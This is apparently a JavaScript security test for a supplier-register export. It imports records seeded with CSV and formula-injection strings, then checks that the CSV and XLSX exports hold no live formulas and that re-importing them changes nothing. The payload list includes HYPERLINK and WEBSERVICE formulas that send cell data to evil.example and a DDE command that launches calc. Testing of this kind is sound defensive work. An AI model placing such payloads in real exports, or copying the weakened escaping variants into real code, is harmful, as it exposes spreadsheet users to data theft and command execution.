import { randomUUID } from 'node:crypto';
import { httpBar } from '../lib/http-bar.mjs';
import { download, importFile, uploadFile } from '../lib/import-files.mjs';
import { unzip } from '../lib/zip-file.mjs';

/** Starts that make a spreadsheet program compute, dial out or run something (OWASP CSV injection; ASVS 1.2.10). */
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''+", '=-+@'];
const bodies = ['HYPERLINK("http://evil.example/?"&A1,"bấm")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.example")', ' phẩy, chấm; "nháy"'];
const computing = /^[=+\-@\t\r\n\u0000＝＋－＠]/u;

/** RFC 4180, written apart from the product's own reader. */
function csvRecords(text) {
  const records = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const sign = text[at];
    if (isQuoted) {
      if (sign === '"' && text[at + 1] === '"') cell += text[++at];
      else if (sign === '"') isQuoted = false;
      else cell += sign;
    } else if (sign === '"') isQuoted = true;
    else if (sign === ',' || sign === '\n') {
      records.at(-1).push(cell.replace(/\r$/, ''));
      cell = '';
      if (sign === '\n') records.push([]);
    } else cell += sign;
  }
  return records.filter((record) => record.length > 1);
}

/** Cells of a workbook that are not plain text or numbers, or that no quotation prefix protects. */
function liveCells(file) {
  const parts = unzip(file);
  const styles = [...parts.get('xl/styles.xml').split('<cellXfs')[1].matchAll(/<xf [^>]*>/g)].map(([xf]) => xf.includes('quotePrefix="1"'));
  const live = [];
  for (const [name, xml] of parts) {
    if (/calcChain|externalLink|vbaProject|connections/i.test(name)) live.push(name);
    if (!name.startsWith('xl/worksheets/')) continue;
    if (/<f[ >/]|<hyperlink|<oleObject|<legacyDrawing/.test(xml)) live.push(`${name} holds a formula or an object`);
    for (const [, attributes, inside] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
      const text = /<t[^>]*>(.*)<\/t>/s.exec(inside)?.[1];
      if (text === undefined ? !/^<v>-?[\d.e+-]+<\/v>$/i.test(inside) : !attributes.includes('t="inlineStr"')) live.push(inside.slice(0, 80));
      const style = Number(/ s="(\d+)"/.exec(` ${attributes}`)?.[1] ?? 0);
      if (text !== undefined && computing.test(text) && !styles[style]) live.push(`unprotected ${text.slice(0, 60)}`);
    }
  }
  return live;
}

export default httpBar({
  id: 'w4',
  promise: 'No cell of an export computes in a spreadsheet program, and what is exported comes in again as it was',
  naive: [
    [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => text;']],
    [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => /^[=]/.test(text) ? `\'${text}` : text;']],
    [['t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`;', '${text.startsWith("=") ? "><f>" + xmlText(text.slice(1)) + "</f></c>" : ` t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`}`;']],
    [['charCodeAt(0) === 39 && marked.test(text) ? text.slice(1) : text', 'charCodeAt(0) === 39 && marked.test(text) ? text : text']],
  ],
  async check(product, { log }) {
    const { database, person } = product;
    const office = await person('office');
    const mark = randomUUID().slice(0, 8);
    const firms = starts.flatMap((start, row) => bodies.map((body, at) => ({ name: `Công ty Đo ${mark} ${row} ${at}`, shortName: `${start}${at}`, address: `${start}A${row}, Hà Nội`, intro: `${start}${body}` })));
    await importFile(product, office, JSON.stringify(firms), 'w4.json');
    const stored = async () => (await database.query('SELECT json_agg(json_build_array(name_vi, short_name, registered_address, intro, version) ORDER BY name_vi) AS firms FROM suppliers WHERE name_vi LIKE $1', [`%${mark}%`])).rows[0].firms;
    const before = await stored();
    const wrong = [];
    if (before.length !== firms.length || firms.some(({ intro }) => !before.some((row) => row[3] === intro))) wrong.push('the texts are not stored as they are');
    const path = (format) => `/api/v1/exports/register?q=${encodeURIComponent(`Đo ${mark}`)}&format=${format}`;
    const files = Object.fromEntries(await Promise.all(['csv', 'xlsx', 'json'].map(async (format) => [format, await download(product, office, path(format))])));
    const records = csvRecords(files.csv.toString('utf8').replace(/^\ufeff/, ''));
    for (const cell of records.flat()) if (computing.test(cell)) wrong.push(`CSV computes: ${cell.slice(0, 60)}`);
    for (const cell of liveCells(files.xlsx)) wrong.push(`XLSX: ${cell}`);
    if (records.length !== firms.length + 1) wrong.push(`CSV has ${records.length} records`);
    for (const [format, bytes] of Object.entries(files)) {
      const { status, body } = await uploadFile(product, office, bytes, `lai.${format}`);
      if (status !== 201 || body.counts.unchanged !== firms.length) wrong.push(`${format} comes in as ${status} ${JSON.stringify(body.counts ?? body.code)}`);
    }
    if (JSON.stringify(await stored()) !== JSON.stringify(before)) wrong.push('the round trip changed something');
    for (const line of wrong.slice(0, 20)) log(line);
    return { pass: wrong.length === 0, figures: { firms: firms.length, cells: records.flat().length, wrong: wrong.length } };
  },
});
